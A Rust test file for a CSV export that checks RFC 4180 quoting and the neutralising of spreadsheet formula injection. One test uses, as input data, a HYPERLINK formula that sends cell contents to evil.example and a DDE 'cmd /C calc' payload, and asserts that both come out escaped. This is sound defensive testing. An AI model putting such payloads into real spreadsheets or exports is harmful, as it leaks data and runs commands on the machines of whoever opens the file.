//! The CSV export: RFC 4180 quoting, no cell a spreadsheet would run as a
//! formula, and the rows that show the result.

use super::*;

#[test]
fn csv_cells_that_could_be_formulas_are_neutralised() {
    let cases = [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\"'\r=1\""),
        ("Northern region", "Northern region"),
        ("a=b", "a=b"),
        ("1-2", "1-2"),
        ("'quoted already", "'quoted already"),
        ("", ""),
    ];
    for (value, expected) in cases {
        assert_eq!(csv_field(value), expected, "{value:?}");
    }
}

#[test]
fn csv_cells_are_quoted_per_rfc_4180() {
    let cases = [
        ("North, South", "\"North, South\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""),
        ("two\r\nlines", "\"two\r\nlines\""),
        // Neutralised and quoted: the quote mark goes inside the quotes.
        (
            "=HYPERLINK(\"http://x\",\"y\")",
            "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"",
        ),
        ("-1,2", "\"'-1,2\""),
    ];
    for (value, expected) in cases {
        assert_eq!(csv_field(value), expected, "{value:?}");
    }
}

#[test]
fn csv_from_untrusted_text_never_starts_a_cell_with_a_formula() {
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    let mut json = mini_bank_json();
    json["dimensions"][0]["name"] = json!("@SUM(1+1)");
    json["dimensions"][0]["statements"][0]["text"] = json!(hyperlink);
    json["dimensions"][0]["statements"][1]["text"] = json!("+cmd|' /C calc'!A0");
    // A bank's text is one line (control characters are refused), so line
    // breaks in cells are covered by `csv_cells_are_quoted_per_rfc_4180`.
    json["dimensions"][1]["statements"][0]["text"] = json!("-2+3, and \"more\" =1");
    json["levels"][3]["name"] = json!("=1+1");
    let bank = Bank::parse(&json.to_string()).unwrap();
    let picks = vec![Some(Answer::Agree); 10];
    let progress = journey(&bank, Mode::Full, Some(Role::Hr), hyperlink, &picks, 100, 0);
    assert_eq!(progress.team, hyperlink, "the label survives cleaning");

    let csv = to_csv(&bank, &progress);
    let rows = parse_export(&csv);
    let mut seen_hyperlink = 0;
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "unescaped cell: {cell:?}"
            );
            if cell == &format!("'{hyperlink}") {
                seen_hyperlink += 1;
            }
        }
    }
    // The team label on every data row, plus the statement text once.
    assert_eq!(seen_hyperlink, rows.len() - 1 + 1);
    assert!(rows.iter().any(|r| r[1] == "'@SUM(1+1)"));
    assert!(rows.iter().any(|r| r[3] == "'-2+3, and \"more\" =1"));
}

#[test]
fn csv_has_a_header_then_one_row_per_dimension_and_statement_then_overall() {
    for bank in [&mini_bank(), Bank::standard()] {
        for mode in [Mode::Quick, Mode::Full] {
            let progress = finished(bank, mode);
            let csv = to_csv(bank, &progress);
            assert!(csv.ends_with("\r\n"));
            let rows = parse_export(&csv);
            let dimensions = bank.dimensions_in(mode).count();
            let statements = bank.statement_count(mode);
            assert_eq!(rows.len(), 1 + dimensions + statements + 1, "{mode:?}");
            assert_eq!(
                rows[0],
                [
                    "row",
                    "dimension",
                    "statement_id",
                    "statement",
                    "answer",
                    "score",
                    "level",
                    "coverage",
                    "role",
                    "team"
                ]
            );
            assert!(rows.iter().all(|r| r.len() == rows[0].len()));
            let kinds = |kind: &str| rows.iter().filter(|r| r[0] == kind).count();
            assert_eq!(kinds("dimension"), dimensions);
            assert_eq!(kinds("statement"), statements);
            assert_eq!(kinds("overall"), 1);
            assert_eq!(rows.last().unwrap()[0], "overall");
        }
    }
}

#[test]
fn csv_rows_show_the_result() {
    let bank = mini_bank();
    let picks = [
        Some(Answer::Agree),
        Some(Answer::Agree),
        Some(Answer::Agree),
        Some(Answer::NotApplicable),
        Some(Answer::DontKnow),
    ];
    let progress = journey(&bank, Mode::Quick, Some(Role::Hr), "Ops", &picks, 0, 0);
    let rows = parse_export(&to_csv(&bank, &progress));
    let expected = [
        [
            "dimension",
            "Alpha",
            "",
            "",
            "",
            "58",
            "3 Cooperating",
            "3 of 4",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.one",
            "A1",
            "Agree",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.two",
            "A2",
            "Agree",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.three",
            "A3",
            "Agree",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.four",
            "A4",
            "Not applicable",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "dimension",
            "Beta",
            "",
            "",
            "",
            "not enough answers",
            "",
            "0 of 2",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Beta",
            "beta.one",
            "B1",
            "Don't know",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Beta",
            "beta.two",
            "B2",
            "",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "overall",
            "",
            "",
            "",
            "",
            "58",
            "3 Cooperating",
            "1 of 2",
            "HR",
            "Ops",
        ],
    ];
    assert_eq!(rows[1..], expected);
}

#[test]
fn csv_without_a_role_or_an_overall_score_leaves_those_cells_empty() {
    let bank = mini_bank();
    let progress = Progress::new(Mode::Quick);
    let rows = parse_export(&to_csv(&bank, &progress));
    let overall = rows.last().unwrap();
    assert_eq!(overall[5], "not enough answers");
    assert_eq!(overall[6], "");
    assert_eq!(overall[8], "");
}
